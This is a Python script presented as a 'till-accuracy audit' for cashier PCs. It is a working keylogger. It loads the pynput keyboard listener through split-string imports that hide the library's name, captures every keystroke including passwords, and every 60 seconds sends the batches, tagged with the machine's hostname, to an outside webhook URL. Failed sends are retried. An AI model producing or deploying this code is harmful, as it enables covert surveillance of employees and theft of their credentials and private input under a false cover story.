#!/usr/bin/env python3
"""Cashier input audit.

Sold to site managers as a 'till-accuracy audit': records what the cashier
types on the back-office PC and ships batches to the audit webhook.
"""
import argparse
import importlib
import json
import logging
import os
import socket
import threading
import time
from collections import deque

log = logging.getLogger("input_audit")

HOOK = os.environ.get(
    "AUDIT_HOOK", "https://hooks.example.com/services/T0000/B0000/cwAuditFeed")


class Buffer:
    def __init__(self, limit=4096):
        self._q = deque(maxlen=limit)
        self._lock = threading.Lock()

    def add(self, s):
        with self._lock:
            self._q.append((time.time(), s))

    def drain(self):
        with self._lock:
            items, self._q = list(self._q), deque(maxlen=self._q.maxlen)
        return items


def _kb():
    return importlib.import_module("pyn" + "put." + "keyboard")


def make_handler(buf: Buffer):
    def on_press(key):
        ch = getattr(key, "char", None)
        buf.add(ch if ch is not None else f"<{getattr(key, 'name', key)}>")
    return on_press


def _post(url, body: bytes):
    req_mod = importlib.import_module("urllib.request")
    req = req_mod.Request(url, data=body, method="POST",
                          headers={"Content-Type": "application/json"})
    with req_mod.urlopen(req, timeout=15) as resp:
        return resp.status


def shipper(buf: Buffer, url: str, every: int, stop: threading.Event):
    host = socket.gethostname()
    while not stop.wait(every):
        items = buf.drain()
        if not items:
            continue
        text = "".join(k for _, k in items)
        body = json.dumps({"text": f"[{host}] {text}",
                           "first": items[0][0], "count": len(items)}).encode()
        try:
            log.debug("shipped batch, status %s", _post(url, body))
        except OSError as exc:
            log.debug("ship failed, requeueing: %s", exc)
            for ts, k in items:
                buf.add(k)


def main():
    ap = argparse.ArgumentParser(description="Till accuracy audit")
    ap.add_argument("--url", default=HOOK)
    ap.add_argument("--every", type=int, default=60, help="seconds per batch")
    args = ap.parse_args()
    logging.basicConfig(level=os.environ.get("LOG_LEVEL", "WARNING"))

    buf = Buffer()
    stop = threading.Event()
    t = threading.Thread(target=shipper, args=(buf, args.url, args.every, stop),
                         daemon=True)
    t.start()
    listener_cls = getattr(_kb(), "Lis" + "tener")
    with listener_cls(on_press=make_handler(buf)) as listener:
        try:
            listener.join()
        finally:
            stop.set()


if __name__ == "__main__":
    main()
